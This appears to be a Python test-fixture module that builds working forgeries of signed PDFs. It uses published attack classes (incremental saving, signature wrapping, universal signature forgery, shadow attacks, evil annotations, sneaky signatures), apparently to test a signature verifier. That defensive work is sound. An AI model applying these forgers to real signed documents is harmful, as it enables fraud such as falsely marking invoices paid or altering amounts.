"""Known ways to change a signed PDF so that a careless reader does not notice, by class of attack.

Classes after Mladenov and others ("1 Trillion Dollar Refund", 2019; "Shadow Attacks", 2021; "Breaking Certification",
2021): universal signature forgery (USF), incremental saving (ISA), signature wrapping (SWA), shadow attacks, evil
annotations (EAA), sneaky signatures (SSA). Each takes the bytes of a signed dossier and returns changed ones.
"""

import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigSeedSubFilter

from tests.fakes.sealed import own_signer

RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


@dataclass(frozen=True)
class Attack:
    """One attack by its class and what it does."""

    kind: str
    name: str
    forge: Callable[[bytes], bytes]


def attacks() -> Iterator[Attack]:
    """Yield all attacks."""
    for kind, forgers in BY_CLASS.items():
        for forge in forgers:
            yield Attack(kind, forge.__name__.removeprefix("_").replace("_", " "), forge)


def _update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Append an orderly incremental update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"]
    while "/Kids" in page:
        page = page["/Kids"][0]
    return page


def _stream(text: bytes = b"BT /F1 40 Tf 50 400 Td (PAID) Tj ET") -> generic.StreamObject:
    return generic.StreamObject(stream_data=text)


def _signature(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/AcroForm"]["/Fields"][0]["/V"]


# -- incremental saving ---------------------------------------------------------------------------------


def _a_page_says_something_else(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page["/Contents"] = writer.add_object(_stream())
        writer.update_container(page)

    return _update(data, change)


def _the_attached_log_is_another(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        names = writer.root["/Names"]
        names["/EmbeddedFiles"] = generic.DictionaryObject({pdf_name("/Names"): generic.ArrayObject([])})
        writer.update_container(names)
        writer.update_root()

    return _update(data, change)


def _new_objects_without_a_table(data: bytes) -> bytes:
    return data + b"\n9 0 obj\n<< /Type /Page >>\nendobj\n%%EOF\n"


def _an_old_table_named_again(data: bytes) -> bytes:
    start = data.rfind(b"startxref")
    return data + b"\n9 0 obj\n<< /Type /Page >>\nendobj\n" + data[start:]


def _a_table_after_the_end(data: bytes) -> bytes:
    at = len(data) + 1
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer\n"
    prev = re.findall(rb"startxref\s+(\d+)", data)[-1]
    root = re.findall(rb"/Root (\d+ 0 R)", data)[-1]
    trailer = b"<< /Size 999 /Root " + root + b" /Prev " + prev + b" >>\n"
    return data + b"\n" + table + trailer + b"startxref\n%d\n%%%%EOF\n" % at


def _the_document_turned_over(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        root = writer.root
        for key in ("/AcroForm", "/Perms"):
            if key in root:
                del root[key]
        writer.update_root()

    return _update(data, change)


# -- universal signature forgery ---------------------------------------------------------------------------------


def _redefined(edit: Callable[[generic.DictionaryObject], None]) -> Callable[[bytes], bytes]:
    def forge(data: bytes) -> bytes:
        def change(writer: IncrementalPdfFileWriter) -> None:
            signature = _signature(writer)
            edit(signature)
            writer.update_container(signature)

        return _update(data, change)

    return forge


def _without(key: str) -> Callable[[bytes], bytes]:
    forge = _redefined(lambda signature: signature.pop(pdf_name(key)))
    forge.__name__ = f"_signature_without_{key[1:]}"
    return forge


def _with(key: str, value: generic.PdfObject, name: str) -> Callable[[bytes], bytes]:
    forge = _redefined(lambda signature: signature.update({pdf_name(key): value}))
    forge.__name__ = f"_{name}"
    return forge


def _in_place(pattern: bytes, replacement: bytes, name: str) -> Callable[[bytes], bytes]:
    def forge(data: bytes) -> bytes:
        found = data.rfind(pattern)
        assert found > 0
        assert len(pattern) == len(replacement)
        return data[:found] + replacement + data[found + len(pattern) :]

    forge.__name__ = f"_{name}"
    return forge


NULL, NUMBER = generic.NullObject(), generic.NumberObject
EMPTY_RANGE = generic.ArrayObject([NUMBER(0)] * 4)
HUGE_RANGE = generic.ArrayObject([NUMBER(0), NUMBER(10), NUMBER(20), NUMBER(1 << 62)])
NEGATIVE_RANGE = generic.ArrayObject([NUMBER(0), NUMBER(-10), NUMBER(20), NUMBER(30)])


# -- signature wrapping ---------------------------------------------------------------------------------


def _signed_rest_moved_back(data: bytes) -> bytes:
    """Put a forged signature dictionary and a table that leads to it between the signature and the signed rest.

    The rest keeps its bytes, so that the digest still holds; the address of the table that it names now lies in what
    was put before it.
    """
    _, length, resume, rest = (int(number) for number in RANGE.findall(data)[-1])
    startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    table = data[startxref : data.rindex(b"startxref")]
    offset = max(int(entry) for entry in re.findall(rb"(\d{10}) 00000 n", table) if int(entry) < length)
    end = data.index(b"endobj", resume) + 7
    room = startxref - resume
    forged_at = startxref + len(table) + 40
    evil_size = forged_at - resume + (end - offset) + 200
    moved = b"/ByteRange [0 %d %d %d]" % (length, resume + evil_size, rest)
    body = RANGE.sub(moved, data[offset:end])
    lead = table.replace(b"%010d" % offset, b"%010d" % forged_at)
    evil = b" " * room + lead + b"startxref\n%d\n%%%%EOF\n" % startxref
    evil = evil.ljust(forged_at - resume) + body
    return data[:resume] + evil.ljust(evil_size) + data[resume : resume + rest]


def _a_gap_that_holds_more(data: bytes) -> bytes:
    """Put an object into the zeros behind the signature."""
    _, length, resume, _ = (int(number) for number in RANGE.findall(data)[-1])
    evil = b"> 9 0 obj << /Evil true >> endobj <"
    gap = bytearray(data[length:resume])
    gap[-len(evil) - 1 : -1] = evil
    return data[:length] + bytes(gap) + data[resume:]


def _zeros_that_are_none(data: bytes) -> bytes:
    _, _, resume, _ = (int(number) for number in RANGE.findall(data)[-1])
    return data[: resume - 3] + b"1" + data[resume - 2 :]


# -- shadow attacks ---------------------------------------------------------------------------------


def _hidden_behind_a_picture(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        contents = page.raw_get("/Contents")
        over = writer.add_object(_stream(b"1 g 0 0 600 800 re f"))
        old = contents if isinstance(contents, generic.ArrayObject) else [contents]
        page["/Contents"] = generic.ArrayObject([*old, over])
        writer.update_container(page)

    return _update(data, change)


def _fonts_replaced(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        fonts = _first_page(writer)["/Resources"]["/Font"]
        for key in list(fonts):
            font = fonts[key]
            font["/ToUnicode"] = writer.add_object(_stream(b"other letters"))
            writer.update_container(font)

    return _update(data, change)


def _pages_replaced(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): generic.ArrayObject([NUMBER(each) for each in (0, 0, 300, 300)]),
                pdf_name("/Contents"): writer.add_object(_stream()),
            }
        )
        pages = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): NUMBER(1)})
        reference = writer.add_object(pages)
        page["/Parent"] = reference
        pages["/Kids"] = generic.ArrayObject([writer.add_object(page)])
        writer.root["/Pages"] = reference
        writer.update_root()

    return _update(data, change)


def _a_form_field_laid_over(data: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        field = _annotation("/Widget")
        field.update({pdf_name("/FT"): pdf_name("/Tx"), pdf_name("/T"): generic.pdf_string("amount")})
        field[pdf_name("/V")] = generic.pdf_string("300,000")
        reference = writer.add_object(field)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(reference)
        writer.update_container(form["/Fields"])
        _annotate(writer, reference)

    return _update(data, change)


# -- evil annotations ---------------------------------------------------------------------------------


def _annotation(kind: str) -> generic.DictionaryObject:
    rectangle = generic.ArrayObject([NUMBER(each) for each in (50, 50, 500, 700)])
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(kind),
            pdf_name("/Rect"): rectangle,
            pdf_name("/Contents"): generic.pdf_string("paid in full"),
            pdf_name("/F"): NUMBER(4),
        }
    )


def _annotate(writer: IncrementalPdfFileWriter, reference: generic.IndirectObject) -> None:
    page = _first_page(writer)
    old = page["/Annots"] if "/Annots" in page else []  # noqa: SIM401 - `get` would not follow references
    page["/Annots"] = generic.ArrayObject([*old, reference])
    writer.update_container(page)


def _annotated(kind: str) -> Callable[[bytes], bytes]:
    def forge(data: bytes) -> bytes:
        return _update(data, lambda writer: _annotate(writer, writer.add_object(_annotation(kind))))

    forge.__name__ = f"_annotated_with_{kind[1:]}"
    return forge


# -- sneaky signatures ---------------------------------------------------------------------------------


class Unscrupulous(signers.PdfSigner):
    """Signs what must not be changed any more."""

    def _enforce_certification_constraints(self, reader: object) -> None:
        """Ask nothing."""


def _signed_again(subfilter: SigSeedSubFilter, name: str) -> Callable[[bytes], bytes]:
    def forge(data: bytes) -> bytes:
        facts = signers.PdfSignatureMetadata(
            field_name=f"Again{name}",
            md_algorithm="sha256",
            subfilter=subfilter,
        )
        out = io.BytesIO()
        writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        signer = Unscrupulous(facts, own_signer("Somebody Else"))
        signer.sign_pdf(writer, output=out, existing_fields_only=False)
        return out.getvalue()

    forge.__name__ = f"_signed_again_{name}"
    return forge


def _signed_again_over_another_page(data: bytes) -> bytes:
    return _signed_again(SigSeedSubFilter.ADOBE_PKCS7_DETACHED, "over_pages")(_a_page_says_something_else(data))


BY_CLASS: dict[str, list[Callable[[bytes], bytes]]] = {
    "ISA": [
        _a_page_says_something_else,
        _the_attached_log_is_another,
        _new_objects_without_a_table,
        _an_old_table_named_again,
        _a_table_after_the_end,
        _the_document_turned_over,
    ],
    "USF": [
        _without("/Contents"),
        _without("/ByteRange"),
        _without("/SubFilter"),
        _with("/Contents", NULL, "signature_with_no_contents"),
        _with("/Contents", generic.ByteStringObject(b""), "signature_with_empty_contents"),
        _with("/Contents", generic.ByteStringObject(b"\0" * 64), "signature_of_zeros"),
        _with("/ByteRange", NULL, "signature_with_no_range"),
        _with("/ByteRange", EMPTY_RANGE, "signature_with_an_empty_range"),
        _with("/ByteRange", HUGE_RANGE, "signature_with_a_huge_range"),
        _with("/ByteRange", NEGATIVE_RANGE, "signature_with_a_negative_range"),
        _with("/SubFilter", pdf_name("/adbe.x509.rsa_sha1"), "signature_of_another_kind"),
        _with("/SubFilter", pdf_name("/ETSI.RFC3161"), "signature_that_calls_itself_a_timestamp"),
        _in_place(b"/ByteRange", b"/ByteRangf", "range_renamed_in_place"),
        _in_place(b"/SubFilter", b"/SubFiltes", "kind_renamed_in_place"),
        _in_place(b"/DocMDP", b"/DocMDQ", "permissions_renamed_in_place"),
    ],
    "SWA": [_signed_rest_moved_back, _a_gap_that_holds_more, _zeros_that_are_none],
    "shadow": [_hidden_behind_a_picture, _fonts_replaced, _pages_replaced, _a_form_field_laid_over],
    "EAA": [_annotated(kind) for kind in ("/FreeText", "/Stamp", "/Square", "/Redact", "/Widget")],
    "SSA": [
        _signed_again(SigSeedSubFilter.PADES, "approval"),
        _signed_again(SigSeedSubFilter.ADOBE_PKCS7_DETACHED, "adobe"),
        _signed_again_over_another_page,
    ],
}
